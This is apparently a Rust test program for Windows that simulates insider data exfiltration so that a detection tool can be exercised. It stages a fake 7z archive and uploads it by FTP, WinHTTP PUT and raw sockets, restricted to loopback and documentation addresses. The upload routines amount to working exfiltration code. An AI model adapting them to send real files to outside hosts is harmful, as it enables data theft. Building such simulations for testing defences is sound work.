//! A Windows program that does what an insider does: it stages an archive and uploads it.
//!
//! `stager FILE [ftp=IP:PORT] [put=IP:PORT] [socket=IP:PORT] [raw=IP:PORT] [wait=SECONDS]`, with loopback addresses, and those of
//! documentation (203.0.113.0/24), alone. It writes FILE, and sends it by WinINet's `FtpPutFileW`, by WinHTTP's `PUT`, by a
//! `PUT` over a plain socket, and over a plain socket as it is.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, missing_docs, unsafe_code)]

#[cfg(not(windows))]
fn main() {
    eprintln!("this is a program for Windows");
}

#[cfg(windows)]
fn main() {
    windows::main();
}

#[cfg(windows)]
mod windows {
    use std::fs::File;
    use std::io::{Read as _, Write as _};
    use std::net::{SocketAddr, TcpStream};
    use std::path::Path;
    use std::time::Duration;

    use windows_sys::Win32::Networking::WinHttp::{
        WINHTTP_ACCESS_TYPE_NO_PROXY, WinHttpCloseHandle, WinHttpConnect, WinHttpOpen, WinHttpOpenRequest,
        WinHttpReceiveResponse, WinHttpSendRequest,
    };
    use windows_sys::Win32::Networking::WinInet::{
        FTP_TRANSFER_TYPE_BINARY, FtpPutFileW, INTERNET_FLAG_PASSIVE, INTERNET_OPEN_TYPE_DIRECT, INTERNET_SERVICE_FTP,
        InternetCloseHandle, InternetConnectW, InternetOpenW,
    };

    /// Longer than a polling helper takes to look.
    const PAUSE: Duration = Duration::from_millis(1500);
    const SIZE: usize = 300_000;
    const SHARING_VIOLATION: i32 = 32;

    pub fn main() {
        let mut arguments = std::env::args().skip(1);
        let file = arguments.next().expect("a file");
        let ways: Vec<String> = arguments.collect();
        if !ways.iter().all(|way| way.starts_with("wait=")) {
            stage(&file);
        }
        for way in ways {
            let (kind, value) = way.split_once('=').expect("way=address");
            if kind == "wait" {
                std::thread::sleep(Duration::from_secs(value.parse().unwrap()));
                continue;
            }
            let address: SocketAddr = value.parse().unwrap();
            let allowed = address.ip().is_loopback() || value.starts_with("203.0.113.");
            assert!(allowed, "loopback and documentation addresses only");
            match kind {
                "ftp" => ftp(&file, address),
                "put" => put(&file, address),
                "socket" => {
                    let head = format!(
                        "PUT /upload/socket-{} HTTP/1.1\r\nHost: {}\r\nContent-Length: {SIZE}\r\nConnection: close\r\n\r\n",
                        name(&file),
                        address.ip()
                    );
                    raw(&file, address, head.as_bytes());
                }
                _ => raw(&file, address, b""),
            }
            println!("uploaded by {kind}");
        }
    }

    /// Writes what looks like an archive, in pieces, as a packer does.
    fn stage(file: &str) {
        let mut archive = File::create(file).unwrap();
        archive.write_all(b"7z\xbc\xaf\x27\x1c").unwrap();
        let (mut written, mut state) = (6, 12345_u64);
        while written < SIZE {
            let piece: Vec<u8> = (0..50_000.min(SIZE - written))
                .map(|_| {
                    state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
                    (state >> 33) as u8
                })
                .collect();
            archive.write_all(&piece).unwrap();
            written += piece.len();
            std::thread::sleep(Duration::from_millis(300));
        }
        std::thread::sleep(PAUSE);
    }

    fn wide(text: &str) -> Vec<u16> {
        text.encode_utf16().chain([0]).collect()
    }

    fn name(file: &str) -> String {
        Path::new(file).file_name().unwrap().to_str().unwrap().to_owned()
    }

    fn ftp(file: &str, address: SocketAddr) {
        let (agent, host) = (wide("stager"), wide(&address.ip().to_string()));
        let (user, password) = (wide("anonymous"), wide("stager@example.com"));
        let (local, remote) = (wide(file), wide(&format!("in/{}", name(file))));
        // SAFETY: every text ends in a NUL and outlives the calls; handles are closed once, in the order of their use.
        unsafe {
            let internet =
                InternetOpenW(agent.as_ptr(), INTERNET_OPEN_TYPE_DIRECT, std::ptr::null(), std::ptr::null(), 0);
            assert!(!internet.is_null(), "InternetOpenW: {}", std::io::Error::last_os_error());
            let session = InternetConnectW(
                internet,
                host.as_ptr(),
                address.port(),
                user.as_ptr(),
                password.as_ptr(),
                INTERNET_SERVICE_FTP,
                INTERNET_FLAG_PASSIVE,
                0,
            );
            assert!(!session.is_null(), "InternetConnectW: {}", std::io::Error::last_os_error());
            // It wants the file for itself, which the helper may be hashing.
            let mut tries = 0;
            while FtpPutFileW(session, local.as_ptr(), remote.as_ptr(), FTP_TRANSFER_TYPE_BINARY, 0) == 0 {
                let error = std::io::Error::last_os_error();
                tries += 1;
                assert!(tries < 20 && error.raw_os_error() == Some(SHARING_VIOLATION), "FtpPutFileW: {error}");
                std::thread::sleep(Duration::from_millis(250));
            }
            std::thread::sleep(PAUSE);
            InternetCloseHandle(session);
            InternetCloseHandle(internet);
        }
    }

    fn put(file: &str, address: SocketAddr) {
        let mut open = File::open(file).unwrap();
        let mut content = Vec::new();
        open.read_to_end(&mut content).unwrap();
        let (agent, host) = (wide("stager"), wide(&address.ip().to_string()));
        let (verb, path) = (wide("PUT"), wide(&format!("/upload/{}", name(file))));
        let size = u32::try_from(content.len()).unwrap();
        // SAFETY: as in `ftp`; the content outlives the request.
        unsafe {
            let null = std::ptr::null();
            let session = WinHttpOpen(agent.as_ptr(), WINHTTP_ACCESS_TYPE_NO_PROXY, null, null, 0);
            assert!(!session.is_null(), "WinHttpOpen: {}", std::io::Error::last_os_error());
            let connection = WinHttpConnect(session, host.as_ptr(), address.port(), 0);
            let request = WinHttpOpenRequest(connection, verb.as_ptr(), path.as_ptr(), null, null, std::ptr::null(), 0);
            assert!(!request.is_null(), "WinHttpOpenRequest: {}", std::io::Error::last_os_error());
            let sent = WinHttpSendRequest(request, null, 0, content.as_ptr().cast(), size, size, 0);
            assert!(sent != 0, "WinHttpSendRequest: {}", std::io::Error::last_os_error());
            let received = WinHttpReceiveResponse(request, std::ptr::null_mut());
            assert!(received != 0, "WinHttpReceiveResponse: {}", std::io::Error::last_os_error());
            std::thread::sleep(PAUSE);
            for handle in [request, connection, session] {
                WinHttpCloseHandle(handle);
            }
        }
    }

    fn raw(file: &str, address: SocketAddr, head: &[u8]) {
        let mut open = File::open(file).unwrap();
        let mut content = Vec::new();
        open.read_to_end(&mut content).unwrap();
        let mut socket = TcpStream::connect(address).unwrap();
        socket.write_all(head).unwrap();
        socket.write_all(&content).unwrap();
        std::thread::sleep(PAUSE);
        drop(socket);
    }
}
